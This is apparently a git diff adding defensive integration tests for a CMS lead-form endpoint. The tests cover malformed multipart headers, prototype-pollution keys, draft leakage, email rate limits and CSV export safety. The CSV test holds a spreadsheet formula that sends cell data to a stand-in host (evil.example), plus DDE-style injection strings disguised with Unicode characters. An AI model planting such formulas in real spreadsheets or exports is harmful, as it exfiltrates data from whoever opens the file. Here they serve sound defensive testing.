@@ -7,6 +7,10 @@ import { join } from 'node:path';
 import { IDS } from '../../../../cms/access';
 import { captchaAction } from '../../../../cms/extensions/leads/src/contract';
 import { TEMP_PREFIX } from '../../../../cms/extensions/leads/src/http/read-body';
+import {
+  CONFIRMATIONS_PER_NETWORK,
+  MAIL_LIMITS,
+} from '../../../../cms/extensions/leads/src/rules/mail-limits';
 import { ERASED_NAME } from '../../../../cms/extensions/leads/src/rules/retention';
 import { signIn } from '../../../../cms/scripts/api';
 import { localVerdict } from '../../../../cms/scripts/local-captcha';
@@ -63,6 +67,11 @@ const admin = async <T>(path: string, options: { method?: string; body?: unknown
     ?.data;
 const leads = () => admin<Row[]>('/items/leads?limit=-1');
 const rowOf = (id: string | undefined) => admin<Row>(`/items/leads/${id}`);
+const setStatus = (collection: string, slug: string, status: string) =>
+  admin(`/items/${collection}`, {
+    method: 'PATCH',
+    body: { query: { filter: { slug: { _eq: slug } } }, data: { status } },
+  });
 const storedFiles = () => readdirSync(join(cms.folder, 'uploads')).length;
 const temporaryFiles = () =>
   readdirSync(join(cms.folder, 'tmp')).filter((name) => name.startsWith(TEMP_PREFIX));
@@ -203,6 +212,7 @@ describe('a request that is in order', () => {
     const link = data?.file_url ?? '';
     const opened = await fetch(link);
     expect(opened.headers.get('content-disposition')).toContain('attachment');
+    expect(opened.headers.get('x-content-type-options')).toBe('nosniff');
     expect(Buffer.from(await opened.arrayBuffer())).toEqual(FILE_CONTENTS.pdf);
     expect((await fetch(link.replace(/.$/, (last) => (last === 'A' ? 'B' : 'A')))).status).toBe(
       404,
@@ -252,6 +262,12 @@ describe('a request that is not in order', () => {
   it.each([
     ['JSON', 'application/json', '{"name":"Anna"}'],
     ['a form without boundary', 'multipart/form-data', 'name=Anna'],
+    ['a form with an empty boundary', 'multipart/form-data; boundary=', 'name=Anna'],
+    ['a form with another parameter', 'multipart/form-data; xboundary=BB', 'name=Anna'],
+    ['a form with a boundary inside', 'multipart/form-data; x="boundary=BB"', 'name=Anna'],
+    ['a form with an open quote', 'multipart/form-data; boundary="BB', 'name=Anna'],
+    ['a form with a tab in its boundary', 'multipart/form-data; boundary=B\tB', 'name=Anna'],
+    ['a form with a mixed type', 'multipart/mixed; boundary=BB', '--BB--'],
     ['a form of a search', 'application/x-www-form-urlencoded', 'name=Anna'],
   ])('of another type is refused: %s', async (_title, type, body) => {
     const response = await fetch(`${cms.url}/leads/consultation`, {
@@ -263,6 +279,56 @@ describe('a request that is not in order', () => {
     expect(await response.json()).toMatchObject({
       errors: [{ extensions: { code: 'UNSUPPORTED_MEDIA_TYPE' } }],
     });
+  });
+
+  it.each([
+    ['no name', 'Content-Disposition: form-data'],
+    ['another disposition', 'Content-Disposition: attachment; name="name"'],
+    ['an open quote', 'Content-Disposition: form-data; name="name'],
+    ['no colon', 'Content-Disposition form-data'],
+    ['an unknown charset', "Content-Disposition: form-data; name*=utf-99''x"],
+    ['an unknown type', 'Content-Disposition: form-data; name="name"\r\nContent-Type: ;;;'],
+    ['an odd charset', 'Content-Disposition: form-data; name="a"\r\nContent-Type: a/b; charset=x'],
+    ['no end', `Content-Disposition: form-data; name="${'a'.repeat(20_000)}"`],
+    ['a NUL', 'Content-Disposition: form-data; name="na\0me"'],
+  ])(
+    'with a part whose header has %s is refused, and is no failure of ours',
+    async (_title, head) => {
+      const response = await fetch(`${cms.url}/leads/consultation`, {
+        method: 'POST',
+        body: `--BB\r\n${head}\r\n\r\nAnna\r\n--BB--\r\n`,
+        headers: {
+          'Content-Type': 'multipart/form-data; boundary=BB',
+          'Idempotency-Key': randomUUID(),
+          'X-Forwarded-For': newAddress(),
+        },
+      });
+      expect(response.status).toBe(400);
+    },
+  );
+
+  it.each(['__proto__', 'constructor', 'toString', 'hasOwnProperty'])(
+    'of the kind %s is refused',
+    async (kind) => {
+      expect((await sendLead(cms.url, { kind, fields: {} })).status).toBe(400);
+    },
+  );
+
+  it('with fields of the prototype’s names is taken for what it says besides', async () => {
+    const { status } = await send('consultation', { __proto__x: 'a', constructor: 'b' });
+    expect(status).toBe(201);
+  });
+
+  it('for the catalogue of a draft hears what it hears of an unknown one', async () => {
+    const [draft] = await admin<{ slug: string }[]>(
+      '/items/projects?filter[slug][_eq]=teak-house&fields=slug',
+    );
+    await setStatus('projects', 'teak-house', 'draft');
+    const answersOf = async (project = '') => (await send('catalogue', { project })).errors;
+    const [ofDraft, ofNothing] = [await answersOf(draft?.slug), await answersOf('never-was')];
+    await setStatus('projects', 'teak-house', 'published');
+    expect(ofDraft?.[0]?.extensions).toMatchObject({ field: 'project', reason: 'unknown' });
+    expect(ofDraft).toEqual(ofNothing);
   });
 
   it('without a key, or with one that is none, is told so', async () => {
@@ -416,6 +482,55 @@ describe('too many requests', () => {
   });
 });
 
+describe('confirmations', () => {
+  const to = (address: string, from?: string) =>
+    sendLead(cms.url, {
+      kind: 'consultation',
+      fields: { ...fieldsFor('consultation'), alternative_contact: address },
+      address: from,
+    });
+  const waiting = async (sent: readonly LeadAnswer[]) => {
+    const rows = await Promise.all(sent.map(({ data }) => rowOf(data?.id)));
+    return rows.filter(({ visitor_mail }) => visitor_mail !== 'none').length;
+  };
+  const inTurn = async (count: number, once: (index: number) => Promise<LeadAnswer>) => {
+    const sent: LeadAnswer[] = [];
+    for (let index = 0; index < count; index += 1) sent.push(await once(index));
+    expect(sent.map(({ status }) => status)).toEqual(sent.map(() => 201));
+    return sent;
+  };
+
+  it('do not flood one stranger; every request is stored', async () => {
+    const stranger = `${randomUUID()}@example.com`;
+    const from = newAddress();
+    const sent = await inTurn(MAIL_LIMITS.perNetwork.count + 2, () => to(stranger, from));
+    expect(await waiting(sent)).toBe(MAIL_LIMITS.perNetwork.count);
+    const others = await inTurn(MAIL_LIMITS.inAll.count, () => to(stranger));
+    expect((await waiting(sent)) + (await waiting(others))).toBe(MAIL_LIMITS.inAll.count);
+  });
+
+  it('do not reach many strangers from one network', async () => {
+    const from = newAddress();
+    const sent = await inTurn(CONFIRMATIONS_PER_NETWORK.count + 3, () =>
+      to(`${randomUUID()}@example.com`, from),
+    );
+    expect(await waiting(sent)).toBe(CONFIRMATIONS_PER_NETWORK.count);
+  });
+});
+
+describe('the state of the requests', () => {
+  it('is one word for strangers, and numbers for the team', async () => {
+    const read = async (token?: string) =>
+      (await directusFetch(cms.url, '/leads/health', { token })).json;
+    expect(await read()).toEqual({ data: { status: expect.any(String) } });
+    expect(await read(cms.buildToken)).toEqual({ data: { status: expect.any(String) } });
+    const editor = await signIn(cms.url, cms.editorEmail, cms.editorPassword);
+    for (const token of [cms.adminToken, editor]) {
+      expect(await read(token)).toMatchObject({ data: { waiting: expect.any(Number) } });
+    }
+  });
+});
+
 describe('when something we need is down', () => {
   it.each(['down', 'silent'] as const)(
     'a verifier that is %s puts requests off, stores nothing, and the monitor sees it',
@@ -492,10 +607,15 @@ describe('what visitors sent', () => {
   });
 
   it('is safe to open as a spreadsheet', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?"&A1,"x")';
+    expect((await send('consultation', {}, formula)).errors?.[0]?.extensions).toMatchObject({
+      field: 'Idempotency-Key',
+      reason: 'invalid',
+    });
     const { data } = await send('consultation', {
-      alternative_contact: '=1+1 cmd',
-      utm_source: '@SUM(1)',
-      message: '+1|calc',
+      alternative_contact: '\uff1d1+1 cmd',
+      utm_source: '\u200b @SUM(1)',
+      message: '\u200b\n+1|calc',
     });
     const response = await fetch(
       `${cms.url}/items/leads?export=csv&filter[id][_eq]=${data?.id}&fields=alternative_contact,utm_source,message`,
@@ -552,7 +672,7 @@ describe('a process that is killed', () => {
           const fields = {
             ...fieldsFor('vacancy'),
             phone,
-            alternative_contact: 'kill@example.com',
+            alternative_contact: `${randomUUID()}@example.com`,
           };
           const key = randomUUID();
           try {
